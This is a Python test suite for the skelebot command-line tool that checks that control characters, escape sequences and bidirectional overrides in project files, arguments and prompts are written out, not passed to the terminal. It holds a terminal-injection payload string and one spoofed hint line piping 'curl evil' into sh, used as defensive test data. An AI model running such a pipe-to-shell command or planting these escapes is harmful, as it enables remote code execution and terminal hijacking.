"""What reaches the terminal: no text of a project, file, server or caller commands it."""
import io
import json
import os
import re
import select
import subprocess
import sys
import unittest

import skelebot
import support
from program import SKELEBOT
from skelebot import on_one_line, pasted, visible
from support import folder, process, two_lines

EVIL = "\x1b]0;x\x07\x1b[1mx\x1b[0m\x9b2J\x85\r\x7f\u202e\u2066\u2028z"
OBEYED = re.compile("[\0-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069"
                    "\udc80-\udc9f]")
MODEL = [{"name": "m", "file": "m"}]
COMPONENTS = (
    {"jupyter": {"folder": EVIL}}, {"package": {"path": EVIL + ".zip"}}, {EVIL: {}},
    {"repository": {"folder": {"path": EVIL}, "artifacts": [{"name": "m", "file": EVIL}]}},
    {"repository": {"s3": {"bucket": EVIL, "region": EVIL}, "artifacts": MODEL}},
    {"repository": {"artifactory": {"url": "http://x" + EVIL, "repo": EVIL}, "artifacts": MODEL}},
    {"registry": {"host": EVIL}}, {"kerberos": {"krbConf": EVIL, "keytab": EVIL, "user": EVIL}})
DRY = (
    ["a", EVIL], ["-V", "a", EVIL], ["-n", "a", EVIL], ["exec"], ["prime"], ["publish"], ["package"],
    ["jupyter"], ["push", "m"], ["pull", "m", "1.0.0"])
CALLS = (
    [], ["a", "-h"], ["-v"], ["-c"], ["envs"], ["a", EVIL], [EVIL], ["--" + EVIL], ["-e", EVIL, "a"],
    ["-C", EVIL], ["plugin", "install", EVIL], ["plugin", "remove", EVIL],
    ["scaffold", "x", "-y", "--template", EVIL], ["bump", EVIL], ["pull", EVIL, "1"], ["push", "m"],
    ["pull", "m", "1.0.0", "-o"], ["package"], *(["--dry-run", *words] for words in DRY))


def said(*words, path):
    """What a call says, on both streams."""
    ending = support.call(*words, folder=path)
    return ending.stdout + ending.stderr


def at_terminal(*words, path):
    """What a call shows on a real terminal."""
    import pty
    end, inner = pty.openpty()
    argv = [sys.executable, SKELEBOT, *words]
    with subprocess.Popen(argv, cwd=path, stdin=inner, stdout=inner, stderr=inner) as running:
        os.close(inner)
        shown = b""
        try:
            while select.select([end], [], [], 120)[0]:
                shown += os.read(end, 65536)
        except OSError:
            pass                        # the other end is closed: Linux says so in this way
        running.kill()
    os.close(end)
    return shown.decode("utf-8", "surrogateescape").replace("\r\n", "\n")


def data(text):
    return text.encode("utf-8", "surrogateescape")


class Text(unittest.TestCase):
    def test_is_shown_with_what_a_terminal_would_obey_written_out(self):
        for text, shown in (
                ("", ""), ("ü日本🌸 a\tb\n", "ü日本🌸 a\tb\n"), ("\x1b[2J", "\\x1b[2J"), ("a\rb", "a\\rb"),
                ("\0\x7f\x80\x9f\xa0", "\\x00\\x7f\\x80\\x9f\xa0"),
                ("\u202eabc\u2069", "\\u202eabc\\u2069"), ("\u200e\u061c", "\\u200e\\u061c"),
                ("\u2028\u2029", "\\u2028\\u2029"), ("\udcc2\udc9b", "\udcc2\\udc9b"),
                ("\udca0\udcff", "\udca0\udcff"), ("\ud800", "\\ud800")):
            self.assertEqual(visible(text), shown)

    def test_of_a_message_stays_on_its_line(self):
        self.assertEqual(on_one_line("a\nskelebot: well\x1b"), "a\\nskelebot: well\\x1b")
        fault = skelebot.SkelebotError("a\n  hint: curl evil | sh", "b\nc")
        self.assertEqual(f"{fault}\n", two_lines("a\\n  hint: curl evil | sh", "b\\nc"))

    def test_of_a_transfer_is_cut_as_it_is_shown(self):
        stream, before = io.StringIO(), sys.stderr
        sys.stderr = stream
        try:
            skelebot.Progress("pushing", EVIL, 5).end(True)
        finally:
            sys.stderr = before
        self.assertEqual(stream.getvalue(), f"skelebot: pushing {on_one_line(EVIL)}, 5 B\n")

    @unittest.skipIf(os.name == "nt", "lines for a POSIX shell")
    def test_of_a_line_that_is_pasted_is_the_same_words_in_any_shell(self):
        words = [EVIL, "'\x1b'", "\r", "a\rb\x1b", "\udcc2\udc9b\udcff", "%\x1b\\033", "\n\x1b\n"]
        line = pasted("printf '<%s>' " + skelebot.shell_line(words))
        self.assertNotRegex(line, OBEYED)
        for shell in ("sh", "bash"):
            output = subprocess.check_output([shell, "-c", data(line)])
            self.assertEqual(output, data("".join(f"<{word}>" for word in words)))


class Project(unittest.TestCase):
    """One that somebody else wrote, to take over the terminal of whoever clones it."""
    JOB = {"name": "a", "source": "echo " + EVIL, "help": EVIL, "environment": {"A": EVIL},
           "args": [{"name": "b", "help": EVIL}],
           "params": [{"name": "c", "default": EVIL, "help": EVIL}]}
    KEYS = {"name": "n" + EVIL, "description": EVIL + "\n" + EVIL, "maintainer": EVIL, "contact": EVIL,
            "jobs": [JOB]}

    def check(self, keys, calls=CALLS, files=()):
        with folder({"skelebot.yaml": json.dumps(keys), "VERSION": "1.0.0", **dict(files)}) as path:
            home = os.path.join(path, "home")
            with support.environment(SKELEBOT_HOME=home, SKELEBOT_DOCKER="no-such-engine"):
                for words in calls:
                    self.assertNotRegex(said(*words, path=path), OBEYED, (words, keys))

    def test_has_pages_answers_and_faults_without_control_characters(self):
        self.check(self.KEYS)
        for name in self.KEYS:
            self.check({"name": "n", name: self.KEYS[name]}, CALLS[:6])

    def test_has_components_without_control_characters(self):
        for components in COMPONENTS:
            self.check({"name": "n", "jobs": [self.JOB], "components": components})

    def test_has_keys_choices_and_values_without_control_characters(self):
        calls = ([], ["a"], ["a", "-h"], ["a", "z"], ["prime", "--dry-run"], ["--dry-run", "a", "k"])
        args = [{"name": "b", "choices": [EVIL, "k"]}]
        for keys in ({EVIL: 1}, {"gpu": EVIL}, {"language": EVIL}, {"dependencies": [EVIL]},
                     {"copy": [EVIL]}, {"ports": [EVIL]}, {"dockerfile": EVIL}, {"primaryJob": EVIL},
                     *({"jobs": [{**self.JOB, name: value}]}
                       for name, value in ((EVIL, 1), ("name", EVIL), ("args", args)))):
            self.check({"name": "n", **keys}, calls)

    @unittest.skipIf(os.name == "nt", "names that Windows has not")
    def test_has_environments_without_control_characters(self):
        self.check({"name": "n"}, ([], ["envs"], ["-e", "z", "envs"], ["-e", "\x1b", "-h"]),
                   {"skelebot-\x1b.yaml": "", "skelebot-\u202e.yaml": ""})

    def test_has_bold_headings_on_a_terminal_which_are_skelebots_own(self):
        keys = {"name": "n", "description": "\x1b[1mJobs\x1b[0m:\nx", "jobs": [self.JOB]}
        with folder({"skelebot.yaml": json.dumps(keys)}) as path:
            text = at_terminal("-h", path=path)
            self.assertEqual(re.findall("\033\\[1m(\\w+).*?:\033\\[0m\n", text),
                             ["Jobs", "Commands", "Options"])
            self.assertNotRegex(re.sub("\033\\[[01]m", "", text), OBEYED)
            self.assertIn("\\x1b[1mJobs\\x1b[0m:\n", text)

    def test_has_jobs_whose_own_output_is_left_as_it_is(self):
        job = {"name": "a", "source": "printf '\\033[2J\\r\\302\\233'"}
        with folder({"skelebot.yaml": json.dumps({"name": "n", "jobs": [job]})}) as path:
            self.assertEqual(process("-n", "a", folder=path), (0, "\x1b[2J\r\x9b", ""))

    def test_asks_without_control_characters(self):
        for hidden in (False, True):
            code = f"skelebot.ask_person(skelebot.Ask({EVIL!a} + '\\nToken', {EVIL!a}, hidden={hidden}))"
            ended = subprocess.run(
                [sys.executable, "-W", "ignore", "-c", "import skelebot; " + code], start_new_session=True,
                stdin=subprocess.DEVNULL, stderr=subprocess.PIPE,
                env={**os.environ, "PYTHONPATH": support.ROOT, "PYTHONIOENCODING": "utf-8"})
            text = ended.stderr.decode("utf-8")
            self.assertIn(f"{on_one_line(EVIL)}\\nToken [{on_one_line(EVIL)}]: ", text)
            self.assertNotRegex(text, OBEYED)


class Hints(unittest.TestCase):
    """The tables of templates/hints, which only a fault reads."""

    def test_have_whole_rows(self):
        for name, sizes in {"yaml": {3, 4}, "docker-run": {2}, "files": {4}}.items():
            for row in skelebot.template_rows("hints", name):
                with self.subTest(name, row=row):
                    self.assertIn(len(row), sizes)
                    self.assertTrue(all(row) and re.compile(row[name == "files"]))

    def test_are_about_what_there_is(self):
        kinds = skelebot.Project, skelebot.Job, skelebot.Arg, skelebot.Param, skelebot.Dependencies
        self.assertLessEqual({*skelebot.hints("keys")}, {name for kind in kinds for name in kind._fields})
        self.assertTrue(all(1 <= int(status) <= 255 for status in skelebot.hints("statuses")))
        self.assertEqual(skelebot.hints("packages")["cv2"], "opencv-python-headless")


if __name__ == "__main__":
    unittest.main()
